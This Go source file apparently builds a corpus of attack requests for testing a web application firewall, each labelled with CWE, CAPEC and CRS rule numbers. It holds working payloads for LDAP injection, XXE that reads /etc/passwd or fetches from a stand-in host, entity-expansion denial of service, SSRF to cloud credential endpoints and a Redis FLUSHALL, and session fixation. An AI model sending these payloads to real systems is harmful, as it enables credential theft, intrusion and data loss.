package attack

// directory is injection into a search of an LDAP directory.
func directory() group {
	return group{"ldap", "LDAP injection", "CWE-90", []entry{
		{"any-password", "Ends the filter, so that any password is right", "CAPEC-136; CRS 921200", form("account", "*)(uid=*))(|(uid=*", "password", "x")},
		{"or-branch", "Adds a branch that always holds", "CAPEC-136; CRS 921200", query("q", "ada)(|(objectClass=*)")},
		{"not-branch", "Adds one that excludes a test", "CAPEC-136; CRS 921200", query("q", "ada)(!(&(locked=TRUE)(x=y)))")},
		{"attribute", "Reads another attribute", "CAPEC-136; CRS 921200", query("q", "ada)(userPassword=*)")},
	}}
}

// entities have an XML parser fetch or grow things.
func entities() group {
	xml := func(body string) Request { return post("application/xml", body) }
	return group{"xxe", "XML external entity", "CWE-611", []entry{
		{"file", "Shows a file of the server", "CAPEC-221; CRS 930", xml(`<?xml version="1.0"?><!DOCTYPE n [<!ENTITY f SYSTEM "file:///etc/passwd">]><note>&f;</note>`)},
		{"address", "Has the server fetch a page", "CAPEC-221; CRS 931", xml(`<?xml version="1.0"?><!DOCTYPE n [<!ENTITY f SYSTEM "http://203.0.113.9/tw">]><note>&f;</note>`)},
		{"parameter-entity", "Fetches a document type with further entities", "CAPEC-221; CRS 931", xml(`<?xml version="1.0"?><!DOCTYPE n [<!ENTITY % d SYSTEM "http://203.0.113.9/tw.dtd"> %d;]><note/>`)},
		{"growth", "Grows to gigabytes when it is read", "CAPEC-197", xml(`<?xml version="1.0"?><!DOCTYPE n [<!ENTITY a "tw"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><note>&c;</note>`)},
		{"svg", "In a drawing that is uploaded", "CAPEC-221", post("image/svg+xml", `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY f SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&f;</text></svg>`)},
	}}
}

// forgery has the server ask for what only it can reach.
func forgery() group {
	return group{"ssrf", "Server-side request forgery", "CWE-918", []entry{
		{"metadata", "The metadata of a cloud machine", "CAPEC-664; CRS 934110", query("avatar", "http://169.254.169.254/latest/meta-data/iam/security-credentials/")},
		{"metadata-google", "Likewise of another cloud", "CAPEC-664; CRS 934110", query("avatar", "http://metadata.google.internal/computeMetadata/v1/instance/")},
		{"loopback-number", "The machine itself, as one number", "CAPEC-664; CRS 934120", query("avatar", "http://2130706433:8080/admin")},
		{"file", "A file", "CAPEC-664; CRS 930", query("avatar", "file:///etc/passwd")},
		{"gopher", "Another protocol, that speaks to a database", "CAPEC-664; CRS 931", query("avatar", "gopher://127.0.0.1:6379/_FLUSHALL")},
		{"address-with-user", "A host behind a name that looks trusted", "CAPEC-664; CRS 931", query("url", "http://203.0.113.9/tw.php?")},
	}}
}

// fixation gives somebody a session that the attacker knows.
func fixation() group {
	return group{"session", "Session fixation", "CWE-384", []entry{
		{"script-cookie", "Sets a cookie by script", "CAPEC-61; CRS 943100", query("q", "<i>x</i>;document.cookie=\"sid=tw; domain=example.com\"")},
		{"meta-cookie", "Sets one by a page's own head", "CAPEC-61; CRS 943100", form("note", `<meta http-equiv="Set-Cookie" content="sid=tw">`)},
		{"parameter-offsite", "Hands it over in a link from elsewhere", "CAPEC-61; CRS 943110", query("PHPSESSID", "twtwtwtwtwtw").with("Referer", "https://tw.example.invalid/")},
		{"parameter-no-referrer", "Hands it over in a link from nowhere", "CAPEC-61; CRS 943120", query("JSESSIONID", "twtwtwtwtwtw")},
	}}
}

// scanners are programs that look for holes, by what they call themselves.
func scanners() group {
	as := func(agent string) Request { return get("/").with("User-Agent", agent) }
	return group{"scanner", "Vulnerability scanner", "CWE-200", []entry{
		{"sqlmap", "Tries SQL injection", "CAPEC-169; CRS 913100", as("sqlmap/1.8.2#stable (https://sqlmap.org)")},
		{"nikto", "Tries thousands of known paths", "CAPEC-169; CRS 913100", as("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)")},
		{"nuclei", "Tries templates of known holes", "CAPEC-169; CRS 913100", as("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")},
		{"wpscan", "Looks for holes of one application", "CAPEC-169; CRS 913100", as("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)")},
		{"dirbuster", "Guesses names of folders", "CAPEC-169; CRS 913100", as("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)")},
		{"masscan", "Looks at the whole net", "CAPEC-169; CRS 913100", as("masscan/1.3 (https://github.com/robertdavidgraham/masscan)")},
		{"nmap", "Looks at ports and what answers there", "CAPEC-169; CRS 913100", as("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")},
	}}
}
